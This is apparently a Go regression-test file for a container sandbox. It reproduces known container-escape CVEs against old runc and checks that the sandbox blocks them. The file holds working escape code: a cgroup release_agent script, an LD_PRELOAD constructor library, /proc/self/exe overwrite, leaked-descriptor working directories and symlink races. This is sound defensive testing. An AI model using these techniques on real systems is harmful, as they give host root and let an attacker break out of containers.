@@ -1,0 +1,466 @@
+package cve
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/opencontainers/runtime-spec/specs-go"
+	"golang.org/x/sys/unix"
+
+	"agentjail.dev/tests/engine"
+)
+
+// attacks are the exploits, each as its advisory describes it.
+var attacks = []attack{
+	{"CVE-2019-5736", "overwrite the runtime through /proc/PID/exe during an exec", overwriteRuntime, []string{"runc-old"}, &oldRunc},
+	{"CVE-2024-21626", "an image whose WORKDIR is a descriptor of the runtime", imageWorkdir, []string{"runc-old"}, nil},
+	{"CVE-2024-21626", "any descriptor as working directory", anyWorkdir, []string{"runc-old"}, nil},
+	{"CVE-2024-21626", "exec with a descriptor as working directory", execWorkdir, []string{"runc-old"}, nil},
+	{"CVE-2024-21626", "exec into a link to a descriptor that the container made", execLink, []string{"runc-old"}, nil},
+	{"CVE-2025-31133", "a volume at /dev whose null is a link: masks show what it leads to", maskByVolume, []string{"runc-old"}, nil},
+	{"CVE-2025-31133", "an image whose /dev/null is a link", maskByImage, nil, nil},
+	{"CVE-2025-52565", "a volume at /dev whose console is a link: the runtime empties what it leads to", consoleByVolume, []string{"runc-old"}, nil},
+	{"CVE-2025-52881", "an image with files in /proc: the runtime's settings go where they lead", procByImage, []string{"runc-old"}, nil},
+	{"CVE-2025-52881", "a mount point in a shared folder is swapped for a link to /proc meanwhile", procByRace, nil, nil},
+	{"CVE-2026-41579", "an image whose /dev is a link: the runtime removes and makes files there", devLink, []string{"runc-old"}, nil},
+	{"CVE-2020-15257", "connect to an abstract socket of the host from its network", abstractSocket, []string{"runc"}, nil},
+	{"CVE-2022-0492", "with CAP_SYS_ADMIN: name a program of the container as release_agent", releaseAgent, []string{"runc"}, nil},
+	{"CVE-2022-0492", "unprivileged: open release_agent from user and cgroup namespaces of one's own", releaseAgentUserns, []string{"runc"}, nil},
+	{"CVE-2025-23266", "a hook inherits LD_PRELOAD from the image", hookPreload, []string{"runc-old"}, nil},
+}
+
+// secret makes a file on the host that no container may see or change, and returns its path and text.
+func secret(t *testing.T) (path, text string) {
+	t.Helper()
+	dir := hostDir(t)
+	path = filepath.Join(dir, "secret")
+	text = fmt.Sprintf("secret of %s\n", dir)
+	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path, text
+}
+
+// hostDir makes a folder on the host.
+func hostDir(t *testing.T) string {
+	t.Helper()
+	dir, err := os.MkdirTemp(base, "host-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	return dir
+}
+
+// image makes an image that is removed with the test.
+func image(t *testing.T, programs, links map[string]string, changes ...string) string {
+	t.Helper()
+	name := strings.ToLower(strings.NewReplacer("/", "-", " ", "-", ":", "-", ",", "-").Replace(filepath.Base(hostDir(t))))
+	if err := docker.ImportBusyboxWith(name, programs, links, changes...); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { docker.For(t).Docker("rmi", "-f", name) })
+	return name
+}
+
+// above is a path from a working directory outside the container to a file of the host.
+func above(path string) string { return strings.Repeat("../", 20) + path[1:] }
+
+// said is all that a command told, for the report.
+func result(r engine.Result) string {
+	return fmt.Sprintf("exit code %d: %s %s", r.Code, r.Stdout, r.Stderr)
+}
+
+// overwriteRuntime: the image has a program whose interpreter is /proc/self/exe. When the runtime's exec starts it, the
+// runtime's own binary runs in the container; another process of the container waits for that, opens the binary, and
+// writes it as soon as it has ended.
+func overwriteRuntime(t *testing.T, s system) (bool, string) {
+	good, err := os.ReadFile(oldRunc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	img := image(t, map[string]string{"/evil": "#!/proc/self/exe\n"}, nil)
+	d := docker.For(t)
+	id := d.Detached("--runtime="+s.name, img, "probe", "overwrite")
+	d.Eventually("the exploit waits", func() bool { return strings.Contains(d.Must("logs", id), "waiting") })
+	t.Cleanup(func() {
+		if err := os.WriteFile(oldRunc+".good", good, 0o755); err != nil {
+			t.Error(err)
+		}
+		if err := os.Rename(oldRunc+".good", oldRunc); err != nil {
+			t.Error(err)
+		}
+	})
+	for range 15 {
+		d.Docker("exec", id, "/evil")
+		// The exploit tells about each binary that it opened when it is done with it.
+		if now, err := os.ReadFile(oldRunc); err == nil && !bytes.Equal(now, good) {
+			return true, fmt.Sprintf("the runtime is now %q", short(string(now[:min(len(now), 60)])))
+		}
+	}
+	d.Eventually("the exploit is done", func() bool {
+		log := d.Must("logs", id)
+		return strings.Count(log, "saw") == strings.Count(log, "gave up")
+	})
+	now, err := os.ReadFile(oldRunc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return !bytes.Equal(now, good), d.Must("logs", id)
+}
+
+// workdirs are descriptors that are tried as an image's WORKDIR: first those that the old runc has open there.
+var workdirs = []int{11, 8, 7, 9, 10, 12}
+
+// workdirImages are the images made for them so far, by descriptor.
+var workdirImages = map[int]string{}
+
+// imageWorkdir: Docker hands the image's WORKDIR on as it is.
+func imageWorkdir(t *testing.T, s system) (bool, string) {
+	path, text := secret(t)
+	seen := ""
+	for i, fd := range workdirs {
+		if s.jail && i == 3 {
+			break // anyWorkdir has the rest
+		}
+		if workdirImages[fd] == "" {
+			name := fmt.Sprintf("workdir-%d", fd)
+			if err := docker.ImportBusyboxWith(name, nil, nil, fmt.Sprintf("WORKDIR /proc/self/fd/%d", fd)); err != nil {
+				t.Fatal(err)
+			}
+			workdirImages[fd] = name
+		}
+		r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, workdirImages[fd], "cat", above(path))
+		if strings.Contains(r.Stdout, text) {
+			return true, fmt.Sprintf("read %s through descriptor %d", path, fd)
+		}
+		seen += result(r) + "; "
+	}
+	return false, seen
+}
+
+// anyWorkdir tries all descriptors, in several spellings.
+func anyWorkdir(t *testing.T, s system) (bool, string) {
+	path, text := secret(t)
+	b := newBundle(t)
+	b.spec.Process.Args = []string{"/bin/busybox", "cat", above(path)}
+	var seen string
+	for fd := 3; fd <= 12; fd++ {
+		for _, dir := range []string{"/proc/self/fd/%d", "/proc/self/fd/%d/../..", "/proc/1/fd/%d", "//proc/./self/fd/%d/"} {
+			b.spec.Process.Cwd = fmt.Sprintf(dir, fd)
+			out, err := b.run(t, s)
+			if strings.Contains(out, text) {
+				return true, fmt.Sprintf("read %s from %s", path, b.spec.Process.Cwd)
+			}
+			seen = fmt.Sprint(out, err)
+		}
+	}
+	return false, seen
+}
+
+// execWorkdir: docker exec -w, which whoever may run commands in a container can choose.
+func execWorkdir(t *testing.T, s system) (bool, string) {
+	return execIn(t, s, func(fd int) string { return fmt.Sprintf("/proc/self/fd/%d", fd) })
+}
+
+// execLink: the same through a link of the container's own, which looks like any folder from outside.
+func execLink(t *testing.T, s system) (bool, string) {
+	return execIn(t, s, func(fd int) string { return fmt.Sprintf("/work%d", fd) })
+}
+
+func execIn(t *testing.T, s system, dir func(fd int) string) (bool, string) {
+	path, text := secret(t)
+	d := docker.For(t)
+	id := d.Detached("--runtime="+s.name, engine.Busybox, "sh", "-c", "for i in 3 4 5 6 7 8 9 10 11 12; do ln -s /proc/self/fd/$i /work$i; done; echo linked; sleep 3600")
+	d.Eventually("the links", func() bool { return strings.Contains(d.Must("logs", id), "linked") })
+	var seen string
+	for fd := 3; fd <= 12; fd++ {
+		r := d.Docker("exec", "-w", dir(fd), id, "/bin/busybox", "cat", above(path))
+		if strings.Contains(r.Stdout, text) {
+			return true, fmt.Sprintf("read %s from %s", path, dir(fd))
+		}
+		seen = result(r)
+	}
+	return false, seen
+}
+
+// fakeDev makes a folder for /dev, with one of the names a link.
+func fakeDev(t *testing.T, name, to string) string {
+	t.Helper()
+	dir := hostDir(t)
+	for _, l := range [][2]string{{name, to}, {"ptmx", "pts/ptmx"}, {"fd", "/proc/self/fd"}} {
+		if err := os.Symlink(l[1], filepath.Join(dir, l[0])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// masked reads the paths that every container has masked, and says whether one shows what the exploit's link leads to.
+func masked(out string) (bool, string) { return strings.Contains(out, "redirected"), out }
+
+const readMasked = "cat /proc/keys /proc/timer_list /proc/kcore /proc/sched_debug 2>&1 | head -c 1000; true"
+
+// maskByVolume: the runtime covers a masked path with the container's /dev/null; a link there has it mount something
+// else on it, writable, which the real exploit lets be a kernel setting.
+func maskByVolume(t *testing.T, s system) (bool, string) {
+	dev := fakeDev(t, "null", "/redirect")
+	img := image(t, map[string]string{"/redirect": "redirected\n"}, nil)
+	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "-v", dev+":/dev", img, "sh", "-c", readMasked)
+	return masked(result(r))
+}
+
+// maskByImage: with the usual mount at /dev the image's is covered, under any runtime.
+func maskByImage(t *testing.T, s system) (bool, string) {
+	b := newBundle(t)
+	if err := os.Symlink("/redirect", filepath.Join(b.rootfs, "dev/null")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(b.rootfs, "redirect"), []byte("redirected\n"), 0o666); err != nil {
+		t.Fatal(err)
+	}
+	b.spec.Process.Args = []string{"sh", "-c", readMasked}
+	out, err := b.run(t, s)
+	return masked(fmt.Sprint(out, err))
+}
+
+// consoleByVolume: with a terminal, the runtime makes /dev/console as host root before the container's user is set. The
+// link leads to a file of host root in a folder of uid 1000, as whom the container runs.
+func consoleByVolume(t *testing.T, s system) (bool, string) {
+	path, text := secret(t)
+	folder := filepath.Dir(path)
+	if err := os.Chown(folder, 1000, 1000); err != nil {
+		t.Fatal(err)
+	}
+	dev := fakeDev(t, "console", "/work/secret")
+	b := newBundle(t)
+	b.spec.Mounts[1] = specs.Mount{Destination: "/dev", Type: "bind", Source: dev, Options: []string{"rbind", "rw"}}
+	b.mount(folder, "/work")
+	b.spec.Process.Terminal = true
+	b.spec.Process.User = specs.User{UID: 1000, GID: 1000}
+	b.write(t)
+	containers++
+	id := "cve-" + filepath.Base(base) + "-" + strconv.Itoa(containers)
+	term := engine.OnTerminal(t, 24, 80, b.command(context.Background(), s, "run", "--bundle", b.dir, id))
+	term.Wait()
+	_, _, _ = b.call(t, s, "delete", "--force", id)
+	now, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(now) != text, fmt.Sprintf("root's file holds %q; %s", now, term.Said())
+}
+
+// procByImage: the runtime writes kernel settings and its own process attributes through /proc, which is the image's
+// folder here. Its link leads to a file of host root in a mounted folder.
+func procByImage(t *testing.T, s system) (bool, string) {
+	path, text := secret(t)
+	b := newBundle(t)
+	b.unmount("/proc")
+	b.mount(filepath.Dir(path), "/work")
+	at := filepath.Join(b.rootfs, "proc/sys/net/core")
+	if err := os.MkdirAll(at, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/work/secret", filepath.Join(at, "somaxconn")); err != nil {
+		t.Fatal(err)
+	}
+	b.spec.Linux.Sysctl = map[string]string{"net.core.somaxconn": "redirected"}
+	b.spec.Process.User = specs.User{UID: 1000, GID: 1000}
+	out, rerr := b.run(t, s)
+	now, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(now) != text, fmt.Sprintf("root's file holds %q; %s%v", now, out, rerr)
+}
+
+// raceRounds is how often a race is run; each round is a container.
+const raceRounds = 12
+
+// procByRace: while containers start with a mount inside a shared folder, somebody swaps the mount point for a link to
+// /proc, so that what the runtime mounts there covers what it then writes to. Whether a round hits is luck: no old
+// runtime has to fall, but no jail may.
+func procByRace(t *testing.T, s system) (bool, string) {
+	shared := hostDir(t)
+	if err := os.Mkdir(filepath.Join(shared, "x"), 0o777); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/proc/self", filepath.Join(shared, "y")); err != nil {
+		t.Fatal(err)
+	}
+	stop, stopped := make(chan struct{}), make(chan int)
+	go func() {
+		swaps := 0
+		for {
+			select {
+			case <-stop:
+				stopped <- swaps
+				return
+			default:
+				if unix.Renameat2(unix.AT_FDCWD, filepath.Join(shared, "x"), unix.AT_FDCWD, filepath.Join(shared, "y"), unix.RENAME_EXCHANGE) == nil {
+					swaps++
+				}
+				time.Sleep(100 * time.Microsecond) // leaves the processor to the runtime
+			}
+		}
+	}()
+	b := newBundle(t)
+	b.mount(shared, "/shared")
+	b.spec.Mounts = append(b.spec.Mounts, specs.Mount{Destination: "/shared/x/attr", Type: "tmpfs", Source: "tmpfs", Options: []string{"mode=777"}})
+	b.spec.Linux.Sysctl = map[string]string{"net.core.somaxconn": "77"}
+	b.spec.Process.Args = []string{"sh", "-c", "cat /proc/sys/net/core/somaxconn; grep -E ' /proc/(self|[0-9]+)/' /proc/self/mountinfo; echo end"}
+	started, reached, seen := 0, false, ""
+	for range raceRounds {
+		out, err := b.run(t, s)
+		if err == nil {
+			started++
+			if out != "77\nend\n" {
+				reached, seen = true, out
+			}
+		} else {
+			seen = err.Error()
+		}
+	}
+	close(stop)
+	swaps := <-stopped
+	if swaps < raceRounds {
+		t.Errorf("only %d swaps in %d rounds: no race", swaps, raceRounds)
+	}
+	return reached, fmt.Sprintf("%d of %d containers started, %d swaps; %s", started, raceRounds, swaps, seen)
+}
+
+// devLink: the runtime completes /dev by names below the root file system's path, and so follows the image's link out of
+// it: to a folder of the host here, whose file "ptmx" it removes. (Docker's storage covers such a link; other engines
+// pass it on.)
+func devLink(t *testing.T, s system) (bool, string) {
+	victim := hostDir(t)
+	if err := os.WriteFile(filepath.Join(victim, "ptmx"), []byte("the host's\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	b := newBundle(t)
+	if err := os.RemoveAll(filepath.Join(b.rootfs, "dev")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(victim, filepath.Join(b.rootfs, "dev")); err != nil {
+		t.Fatal(err)
+	}
+	out, rerr := b.run(t, s)
+	var names []string
+	entries, err := os.ReadDir(victim)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	text, err := os.ReadFile(filepath.Join(victim, "ptmx"))
+	return len(names) != 1 || err != nil || string(text) != "the host's\n", fmt.Sprintf("the folder holds %v; %s%v", names, out, rerr)
+}
+
+// abstractSocket: the name is like those of containerd's shims before its fix; who listens is the test.
+func abstractSocket(t *testing.T, s system) (bool, string) {
+	d := docker.For(t)
+	name := "@/containerd-shim/" + filepath.Base(base) + "-" + s.name + ".sock@"
+	var l net.Listener
+	err := d.InNetns(func() (err error) { l, err = net.Listen("unix", name); return err })
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	r := d.Docker("run", "--rm", "--runtime="+s.name, "--network", "host", "-e", "PROBE_ABSTRACT="+name, engine.Busybox, "probe", "attempts", "abstract_shim_socket")
+	return strings.Contains(r.Stdout, `"errno":""`), result(r)
+}
+
+// hierarchy makes one of control groups of version 1 without controllers, where containers are at the root, as they are
+// in those that their engine does not use. Nothing of the machine's hangs on it.
+func hierarchy(t *testing.T) string {
+	t.Helper()
+	dir := hostDir(t)
+	name := filepath.Base(base) + "-" + filepath.Base(dir)
+	if err := unix.Mount("cgroup", dir, "cgroup", 0, "none,name="+name); err != nil {
+		t.Skip("this kernel has no control groups of version 1:", err)
+	}
+	t.Cleanup(func() {
+		if err := unix.Unmount(dir, 0); err != nil {
+			t.Error(err)
+		}
+	})
+	return name
+}
+
+// releaseAgent: the classic way out of a container with CAP_SYS_ADMIN. The kernel runs the agent as host root; this one
+// leaves a mark.
+func releaseAgent(t *testing.T, s system) (bool, string) {
+	dir := hostDir(t)
+	mark := filepath.Join(dir, "escaped")
+	name := hierarchy(t)
+	script := `set -e
+layer=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
+printf '#!/bin/sh\nid -u > ` + mark + `\n' > /agent; chmod 755 /agent
+mkdir /tmp/cg; mount -t cgroup -o none,name=` + name + ` cgroup /tmp/cg; echo mounted
+mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo "$layer/agent" > /tmp/cg/release_agent; echo armed
+sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'; sleep 1
+rmdir /tmp/cg/x; umount /tmp/cg`
+	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", engine.Busybox, "sh", "-c", script)
+	_, err := os.Stat(mark)
+	return err == nil || strings.Contains(r.Stdout, "armed"), fmt.Sprintf("mark on the host: %v; %s", err == nil, result(r))
+}
+
+// releaseAgentUserns: the unprivileged form. It stops at an open file: kernels before the fix would have let it write.
+func releaseAgentUserns(t *testing.T, s system) (bool, string) {
+	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", engine.Busybox, "probe", "release-agent", hierarchy(t))
+	return strings.Contains(r.Stdout, `"opened"`), result(r)
+}
+
+// hookPreload: container toolkits add hooks to every container; one that runs in the container's namespaces inherits the
+// runtime's environment, which has the image's LD_PRELOAD by then, and its working directory is the image.
+func hookPreload(t *testing.T, s system) (bool, string) {
+	gcc, err := exec.LookPath("gcc")
+	if err != nil {
+		t.Skip("needs gcc (hack/deps.sh installs it):", err)
+	}
+	dir := hostDir(t)
+	mark := filepath.Join(dir, "escaped")
+	b := newBundle(t)
+	source := filepath.Join(dir, "poc.c")
+	program := `#include <fcntl.h>
+#include <stdlib.h>
+#include <unistd.h>
+__attribute__((constructor)) static void poc(void)
+{
+	int fd = open(getenv("POC_MARK"), O_CREAT | O_WRONLY, 0600);
+	if (fd >= 0) { (void)!write(fd, "escaped\n", 8); close(fd); }
+}
+`
+	if err := os.WriteFile(source, []byte(program), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command(gcc, "-shared", "-fPIC", "-o", filepath.Join(b.rootfs, "poc.so"), source).CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	toolkit := filepath.Join(dir, "toolkit-hook")
+	if err := copyFile("/usr/bin/true", toolkit); err != nil {
+		t.Fatal(err)
+	}
+	b.spec.Process.Env = append(b.spec.Process.Env, "LD_PRELOAD=/proc/self/cwd/poc.so", "POC_MARK="+mark)
+	b.spec.Process.Args = []string{"/bin/busybox", "true"} // static: it preloads nothing
+	hook := []specs.Hook{{Path: toolkit, Args: []string{"toolkit-hook", "create-symlinks"}}}
+	//lint:ignore SA1019 prestart is what toolkits use
+	b.spec.Hooks = &specs.Hooks{Prestart: hook, CreateRuntime: hook, CreateContainer: hook, StartContainer: hook, Poststart: hook, Poststop: hook}
+	out, rerr := b.run(t, s)
+	_, err = os.Stat(mark)
+	return err == nil, fmt.Sprintf("mark on the host: %v; %s%v", err == nil, out, rerr)
+}
